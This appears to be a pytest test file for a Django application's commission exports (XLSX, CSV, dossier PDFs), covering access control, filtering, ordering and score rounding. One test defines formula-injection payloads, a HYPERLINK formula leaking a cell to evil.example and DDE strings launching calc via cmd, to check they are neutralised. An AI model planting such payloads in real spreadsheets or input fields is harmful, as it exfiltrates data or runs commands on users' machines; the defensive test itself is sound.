"""The commission's exports, built by the exports app's machinery: the list's rows (its filters)
as XLSX or CSV with each member's score and comment and the decisions, an application's full
dossier PDF from the reviewer page; asked in the request, built by the task, downloaded by their
owner only through the reviewer door, formula-looking text neutralised."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from pypdf import PdfReader

from commissions.models import UnfavourableReason
from commissions.services import commission_decide, opinion_save
from dossiers.models import PersonalInfo
from exports.models import Export
from tests.exports.conftest import media, pdf_bytes  # noqa: F401 (media: autouse fixture)
from tests.factories import (
    CandidatureFactory,
    PieceFactory,
    PieceTypeFactory,
    RequiredPieceFactory,
    UserFactory,
    centre_staff,
)

pytestmark = pytest.mark.django_db

HOSTILE_COMMENT = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
HOSTILE_NAME = "+cmd|' /C calc'!A0"
HOSTILE_FIRST_NAMES = "@SUM(1+1)*cmd|' /C calc'!A0"


def content(response) -> bytes:
    return b"".join(response.streaming_content)


@pytest.fixture
def decided(commission, programme, listed_programme, member, president):
    """Three applications: favourable with two opinions, on the waiting list with one,
    unfavourable with a reason; one of the listed programme (for the filter)."""
    first = CandidatureFactory(programme=programme, complete=True)
    second = CandidatureFactory(programme=listed_programme, complete=True)
    third = CandidatureFactory(programme=programme, complete=True)
    opinion_save(actor=member, candidature=first, score=15, comment="Très bon dossier")
    opinion_save(actor=president, candidature=first, score=17, comment="")
    opinion_save(actor=member, candidature=second, score=11, comment="Juste")
    commission_decide(actor=member, candidature=first, decision="favourable")
    commission_decide(actor=member, candidature=second, decision="waitlisted", waitlist_rank=1)
    reason = UnfavourableReason.objects.create(
        label_fr="Prérequis non acquis", label_en="Prerequisites missing"
    )
    commission_decide(actor=member, candidature=third, decision="unfavourable", reason=reason)
    return first, second, third


def ask_table(client, django_capture_on_commit_callbacks, kind, query=""):
    with django_capture_on_commit_callbacks(execute=True):
        return client.post(reverse("commissions:export_table"), {"kind": kind, "q": query})


def test_xlsx_of_the_list_with_opinions_and_decisions(
    client, member, decided, outsider, django_capture_on_commit_callbacks
):
    first, second, third = decided
    client.force_login(member)
    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"
    response = ask_table(client, django_capture_on_commit_callbacks, "xlsx")
    assert response.status_code == 302 and response["Location"] == reverse("commissions:exports")
    export = Export.objects.get()
    assert (export.owner, export.audience, export.status, export.total) == (
        member,
        "commission",
        "done",
        3,  # the outsider's commission's application is not among them
    )
    page = client.get(reverse("commissions:exports")).content.decode()
    link = reverse("commissions:export_download", args=[export.pk])
    assert link in page
    rows = list(load_workbook(io.BytesIO(content(client.get(link)))).active.values)
    header = rows[0]
    assert header[:4] == ("Candidate no.", "Birth name", "Usage name", "First names")
    assert "Decision" in header and "Waiting list rank" in header
    assert header[-6:] == (
        "Interview place",
        "Reason for the unfavourable decision",
        "Marc MEMBRE: score",
        "Marc MEMBRE: comment",
        "Paule PRÉSIDENTE: score",
        "Paule PRÉSIDENTE: comment",
    )
    by_number = {row[0]: dict(zip(header, row, strict=True)) for row in rows[1:]}
    assert set(by_number) == {c.dossier.number for c in decided}
    row = by_number[first.dossier.number]
    assert row["Decision"] == "Favourable" and row["Average score (out of 20)"] == 16
    assert row["Marc MEMBRE: score"] == 15 and row["Marc MEMBRE: comment"] == "Très bon dossier"
    assert row["Paule PRÉSIDENTE: score"] == 17
    waiting = by_number[second.dossier.number]
    assert waiting["Waiting list rank"] == 1 and waiting["Paule PRÉSIDENTE: score"] is None
    refused = by_number[third.dossier.number]
    assert refused["Reason for the unfavourable decision"] == "Prerequisites missing"


def test_the_exported_average_is_the_one_the_list_shows(
    client, programme, commission, member, president, django_capture_on_commit_callbacks
):
    """Four scores averaging 12.25: the list rounds half up (12.3/20); the export rounded
    half to even (12.2), so the two disagreed."""
    candidature = CandidatureFactory(programme=programme, complete=True)
    others = [UserFactory(), UserFactory()]
    for user in others:
        commission.memberships.create(user=user)
    for author, score in zip([member, president, *others], [12, 12, 12, 13], strict=True):
        opinion_save(actor=author, candidature=candidature, score=score)
    client.force_login(member)
    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"
    assert "12.3/20" in client.get(reverse("commissions:list")).content.decode()
    ask_table(client, django_capture_on_commit_callbacks, "xlsx")
    ask_table(client, django_capture_on_commit_callbacks, "csv")
    xlsx_export, csv_export = Export.objects.order_by("pk")
    download = reverse("commissions:export_download", args=[xlsx_export.pk])
    rows = list(load_workbook(io.BytesIO(content(client.get(download)))).active.values)
    assert dict(zip(rows[0], rows[1], strict=True))["Average score (out of 20)"] == 12.3
    download = reverse("commissions:export_download", args=[csv_export.pk])
    text = content(client.get(download)).decode("utf-8-sig")
    row = next(csv.DictReader(io.StringIO(text), delimiter=";"))
    assert row["Average score (out of 20)"] == "12.3"


def test_the_export_follows_the_lists_filters(
    client, member, decided, listed_programme, django_capture_on_commit_callbacks
):
    client.force_login(member)
    ask_table(client, django_capture_on_commit_callbacks, "csv", f"programme={listed_programme.pk}")
    export = Export.objects.get()
    assert export.candidature_ids == [decided[1].pk]


def test_the_export_keeps_the_lists_order(
    client, member, decided, django_capture_on_commit_callbacks
):
    """Sorted by score, lowest first (11, 16, then none): the rows come in that order, not
    by id."""
    first, second, third = decided
    client.force_login(member)
    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"
    ask_table(client, django_capture_on_commit_callbacks, "csv", "sort=score")
    export = Export.objects.get()
    assert export.candidature_ids == [second.pk, first.pk, third.pk]
    download = reverse("commissions:export_download", args=[export.pk])
    text = content(client.get(download)).decode("utf-8-sig")
    numbers = [row["Candidate no."] for row in csv.DictReader(io.StringIO(text), delimiter=";")]
    assert numbers == [second.dossier.number, first.dossier.number, third.dossier.number]


def test_hostile_values_are_neutralised_in_the_commission_csv_and_xlsx(
    client, programme, commission, member, django_capture_on_commit_callbacks
):
    candidature = CandidatureFactory(programme=programme, complete=True)
    PersonalInfo.objects.filter(dossier=candidature.dossier).update(first_names=HOSTILE_FIRST_NAMES)
    hostile_member = UserFactory(first_name='=HYPERLINK("http://x")', last_name="")
    commission.memberships.create(user=hostile_member)
    opinion_save(actor=member, candidature=candidature, score=9, comment=HOSTILE_COMMENT)
    opinion_save(actor=hostile_member, candidature=candidature, score=None, comment=HOSTILE_NAME)
    client.force_login(member)
    ask_table(client, django_capture_on_commit_callbacks, "csv")
    ask_table(client, django_capture_on_commit_callbacks, "xlsx")
    csv_export, xlsx_export = Export.objects.order_by("pk")
    text = content(client.get(reverse("commissions:export_download", args=[csv_export.pk]))).decode(
        "utf-8-sig"
    )
    csv_rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    xlsx_rows = [
        tuple("" if value is None else value for value in row)
        for row in load_workbook(
            io.BytesIO(
                content(client.get(reverse("commissions:export_download", args=[xlsx_export.pk])))
            )
        ).active.values
    ]
    for rows in (csv_rows, xlsx_rows):
        cells = [str(value) for row in rows for value in row]
        for hostile in (HOSTILE_COMMENT, HOSTILE_NAME, HOSTILE_FIRST_NAMES):
            assert "'" + hostile in cells
        # A member's name in the header (« <name> : commentaire »).
        assert [c for c in rows[0] if c.startswith('\'=HYPERLINK("http://x")')]
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")], cells
    # openpyxl stores no formula: every cell of the sheet is a plain value.
    sheet = load_workbook(
        io.BytesIO(
            content(client.get(reverse("commissions:export_download", args=[xlsx_export.pk])))
        )
    ).active
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_the_full_dossier_pdf_from_the_reviewer_page(
    client, member, programme, commission, django_capture_on_commit_callbacks
):
    cv = PieceTypeFactory(label_fr="CV")
    RequiredPieceFactory(programme=programme, piece_type=cv)
    candidature = CandidatureFactory(programme=programme, complete=True)
    PieceFactory(candidature=candidature, piece_type=cv, file__data=pdf_bytes(pages=2))
    client.force_login(member)
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        response = client.post(reverse("commissions:export_dossier", args=[candidature.pk]))
    # The request only asked: the PDF is drawn by the task, after the commit.
    assert response.status_code == 302 and Export.objects.get().status == "queued"
    for callback in callbacks:
        callback()
    export = Export.objects.get()
    assert (export.kind, export.status, export.audience) == ("dossier", "done", "commission")
    download = client.get(reverse("commissions:export_download", args=[export.pk]))
    assert download["Content-Disposition"].startswith('attachment; filename="dossier-')
    reader = PdfReader(io.BytesIO(content(download)))
    assert len(reader.pages) >= 3  # the summary, then the CV's two pages


def test_nobody_else_asks_or_downloads_a_commissions_export(
    client, member, application, outsider, centre, django_capture_on_commit_callbacks
):
    client.force_login(member)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("commissions:export_dossier", args=[application.pk]))
    export = Export.objects.get()
    link = reverse("commissions:export_download", args=[export.pk])
    staff = centre_staff(centre)
    for other in (outsider, application.dossier.user, staff):
        client.force_login(other)
        assert client.get(link).status_code == 404
        # Nor through the back office's door, nor by asking for that application.
        assert client.get(reverse("exports:download", args=[export.pk])).status_code == 404
        assert (
            client.post(reverse("commissions:export_dossier", args=[application.pk])).status_code
            == 404
        )
    client.force_login(outsider)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("commissions:export_table"), {"kind": "csv"})
    theirs = Export.objects.exclude(pk=export.pk).get()
    assert application.pk not in theirs.candidature_ids
    client.logout()
    assert client.get(link).status_code == 302  # to the sign-in page


def test_the_back_offices_export_is_not_served_by_the_reviewer_door(
    client, member, application, django_capture_on_commit_callbacks
):
    """A member who is also staff: each door serves its own audience's exports only."""
    member.is_staff = True
    member.save()
    staff_export = Export.objects.create(
        owner=member, kind="csv", candidature_ids=[application.pk], status="done"
    )
    client.force_login(member)
    response = client.get(reverse("commissions:export_download", args=[staff_export.pk]))
    assert response.status_code == 404


def test_a_format_that_does_not_exist_says_so(client, member, application):
    client.force_login(member)
    response = client.post(reverse("commissions:export_table"), {"kind": "exe"}, follow=True)
    assert response.status_code == 200
    assert "Choisissez le format" in response.content.decode()
    assert not Export.objects.exists()


def test_the_export_and_the_list_round_every_average_alike():
    """Every average of up to 12 opinions: the export's number (from the exact sum) and the
    list's text (from the ORM's float) are the same tenth."""
    from commissions import rows
    from commissions.exports import _average

    for count in range(1, 13):
        for total in range(0, 20 * count + 1):
            scores = [total // count] * count
            scores[0] += total - sum(scores)
            listed = rows.one_decimal(float(Decimal(total) / Decimal(count)), ".")
            assert _average(scores) == float(listed), (count, total)
